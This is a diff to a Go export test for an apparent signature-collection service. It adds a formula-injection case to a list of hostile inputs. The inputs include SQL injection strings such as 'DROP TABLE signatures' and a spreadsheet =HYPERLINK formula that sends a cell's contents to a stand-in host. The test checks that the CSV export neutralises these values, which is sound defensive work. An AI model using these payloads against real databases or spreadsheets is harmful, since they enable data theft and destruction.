@@ -255,6 +255,9 @@ func TestExport(t *testing.T) {
 		{"name": "Zoë O'Brien-Łukasiewicz", "city": "Saint-Jean-d'Angély", "country": "France", "email": "zoe@example.org", "note": `Robert'); DROP TABLE signatures;-- 100% "solidaridad" \ _ %`, "key": "k-1"},
 		{"name": "محمد الأحمد", "city": "الرباط", "country": "المغرب", "note": "1 OR 1=1; SELECT * FROM users; =HYPERLINK(\"x\")", "key": "k-2"},
 		{"name": "李小龙 Nguyễn", "city": "東京", "country": "日本", "key": "k-3"},
+		// Formula injection (issue 8): a note and an e-mail a spreadsheet
+		// would evaluate; normalization trims the note's leading tab.
+		{"name": "Eve", "city": "Lima", "country": "Perú", "email": "-1+1@example.org", "note": "\t=HYPERLINK(\"http://x/?\"&A2,\"Click\")", "key": "k-4"},
 	}
 	for _, h := range hostile {
 		if a := do(t, "POST", url, sigJSON(h)); a.status != 201 {
@@ -287,7 +290,7 @@ func TestExport(t *testing.T) {
 		for i, h := range hostile {
 			for _, f := range []string{"name", "city", "country", "email", "note"} {
 				got, _ := rows[i][f].(string)
-				if got != h[f] {
+				if got != strings.TrimSpace(h[f]) { // normalized: trimmed
 					t.Errorf("row %d %s = %q, want %q", i, f, got, h[f])
 				}
 			}
@@ -308,10 +311,18 @@ func TestExport(t *testing.T) {
 		if len(recs) != len(hostile)+1 || strings.Join(recs[0], ",") != "id,name,city,country,email,note,created" {
 			t.Fatalf("CSV = %q", recs)
 		}
-		for i, h := range hostile {
+		for i, h := range hostile[:3] {
 			if recs[i+1][1] != h["name"] || recs[i+1][5] != h["note"] {
 				t.Errorf("CSV row %d = %q, want name %q note %q", i, recs[i+1], h["name"], h["note"])
 			}
+		}
+		if eve := recs[4]; eve[5] != `'=HYPERLINK("http://x/?"&A2,"Click")` || eve[4] != "'-1+1@example.org" {
+			t.Errorf("CSV row of Eve = %q, want the note and e-mail behind a quote", eve)
+		}
+		raw := do(t, "GET", url+"?raw=1", "", "Authorization", "Bearer "+testToken, "Accept", "text/csv")
+		recs, err = csv.NewReader(bytes.NewReader(raw.body)).ReadAll()
+		if err != nil || len(recs) != 5 || recs[4][5] != `=HYPERLINK("http://x/?"&A2,"Click")` {
+			t.Errorf("raw CSV = %q, %v; want values verbatim", recs, err)
 		}
 	})
 	t.Run("empty campaign is an empty array", func(t *testing.T) {
